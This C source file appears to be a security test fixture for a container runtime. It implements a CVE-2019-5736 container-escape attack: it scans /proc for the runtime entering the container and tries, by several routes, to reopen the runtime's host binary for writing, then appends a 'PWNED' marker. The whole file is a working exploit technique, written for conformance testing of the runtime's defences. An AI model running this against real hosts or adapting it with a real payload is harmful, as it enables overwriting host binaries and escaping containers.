/* CVE-2019-5736 attacker for conformance/security_ptrace.rs, run as a container process that
 * holds CAP_SYS_PTRACE. Until the file STOP exists it loops over every /proc/<pid> it can see
 * and, for each process whose executable is not its own nor busybox (that is: the runtime
 * entering the container):
 *   - opens /proc/<pid>/exe O_PATH, checks what file that is, and reopens it O_WRONLY through
 *     /proc/self/fd/N at once (the direct overwrite);
 *   - keeps that O_PATH fd, and retries each kept fd as /proc/self/fd/N with O_WRONLY on
 *     every round (the reopen after the runtime has left, when nothing executes it any more);
 *   - keeps an O_PATH fd of any fd of that process that is the same file;
 *   - with a HOSTPATH argument, also O_PATH-opens /proc/<pid>/root/HOSTPATH (the runtime's
 *     binary reached through a root that is still the host's).
 * A write-open that succeeds appends "PWNED" to the file. An open of a write-sealed memfd is
 * counted apart (writes to it fail: nothing to overwrite). Prints "started", then at the end:
 *   seen=N opened=N sealed=N held=N wins=<how the binary was written> errors=<errno names of
 *   failed write-opens> targets=<exe links>
 * Usage: exe_attack STOPFILE [HOSTPATH] */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif
#ifndef F_SEAL_WRITE
#define F_SEAL_WRITE 0x0008
#endif

#define MAX_HELD 256

/* Kept fds, one per file and mount (a read-only bind shares the inode of a writable path). */
static struct { int fd; dev_t dev; ino_t ino; unsigned long long mnt; } held[MAX_HELD];
static int nheld, seen, opened, sealed;
/* The attacker itself and the rootfs's busybox: never targets. */
static struct stat me, bb;
static char errors[1024], wins[256], targets[2048];

static void note(char *buf, size_t cap, const char *word) {
    if (strstr(buf, word)) return;
    size_t len = strlen(buf);
    snprintf(buf + len, cap - len, "%s%s", len ? "," : "", word);
}

/* fd is open for writing: a sealed memfd cannot be written, anything else is the attack. */
static void wrote(int fd, const char *how) {
    int seals = fcntl(fd, F_GET_SEALS);
    if (seals >= 0 && (seals & F_SEAL_WRITE)) {
        sealed++;
    } else {
        opened++;
        struct stat st;
        if (fstat(fd, &st) == 0 && pwrite(fd, "PWNED", 5, st.st_size) == 5)
            note(wins, sizeof wins, how);
    }
    close(fd);
}

static void failed(void) { note(errors, sizeof errors, strerrorname_np(errno)); }

static void hold(int fd) {
    struct stat st;
    struct statx stx;
    if (fstat(fd, &st) != 0 || (st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
        (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino) ||
        statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &stx) != 0) {
        close(fd);
        return;
    }
    for (int i = 0; i < nheld; i++)
        if (held[i].dev == st.st_dev && held[i].ino == st.st_ino && held[i].mnt == stx.stx_mnt_id) {
            close(fd);
            return;
        }
    if (nheld == MAX_HELD) {
        close(fd);
        return;
    }
    held[nheld].fd = fd;
    held[nheld].dev = st.st_dev;
    held[nheld].ino = st.st_ino;
    held[nheld].mnt = stx.stx_mnt_id;
    nheld++;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *stop = argv[1], *hostpath = argc > 2 ? argv[2] : NULL;
    if (stat("/proc/self/exe", &me) != 0 || stat("/bin/busybox", &bb) != 0) return 2;
    char self[32];
    snprintf(self, sizeof self, "%d", getpid());
    printf("started\n");
    fflush(stdout);
    for (int last = 0; !last;) {
        last = access(stop, F_OK) == 0;
        DIR *d = opendir("/proc");
        if (!d) return 2;
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
            char path[4200], link[4096], self_fd[64];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            /* The identity is checked on the fd, not the path: the process may execve busybox
             * between a stat of the path and an open of it, and busybox held for writing
             * would make the host's next `exec /bin/true` fail ETXTBSY. */
            int pfd = open(path, O_PATH | O_CLOEXEC);
            if (pfd < 0) continue;
            struct stat st;
            if (fstat(pfd, &st) != 0 || (st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
                close(pfd);
                continue;
            }
            seen++;
            snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", pfd);
            ssize_t n = readlink(self_fd, link, sizeof link - 1);
            if (n > 0) {
                link[n] = 0;
                note(targets, sizeof targets, link);
            }
            /* The direct overwrite: the same file /proc/<pid>/exe named when it was checked. */
            int fd = open(self_fd, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) wrote(fd, "exe-wronly");
            else failed();
            hold(pfd);
            /* Any fd of that process that is the same file (dev, ino) as a kept one. */
            snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
            DIR *fds = opendir(path);
            struct dirent *f;
            while (fds && (f = readdir(fds))) {
                if (f->d_name[0] == '.') continue;
                snprintf(path, sizeof path, "/proc/%s/fd/%s", e->d_name, f->d_name);
                if (stat(path, &st) != 0) continue;
                for (int i = 0; i < nheld; i++)
                    if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
                        fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd >= 0) {
                            note(targets, sizeof targets, "fd-reached");
                            hold(fd);
                        }
                        break;
                    }
            }
            if (fds) closedir(fds);
            if (hostpath) {
                snprintf(path, sizeof path, "/proc/%s/root%s", e->d_name, hostpath);
                fd = open(path, O_PATH | O_CLOEXEC);
                if (fd >= 0) {
                    note(targets, sizeof targets, "root-reached");
                    hold(fd);
                }
            }
        }
        closedir(d);
        for (int i = 0; i < nheld; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) wrote(fd, "reopen");
            else failed();
        }
    }
    printf("seen=%d opened=%d sealed=%d held=%d wins=%s errors=%s targets=%s\n", seen, opened,
           sealed, nheld, wins, errors, targets);
    return 0;
}
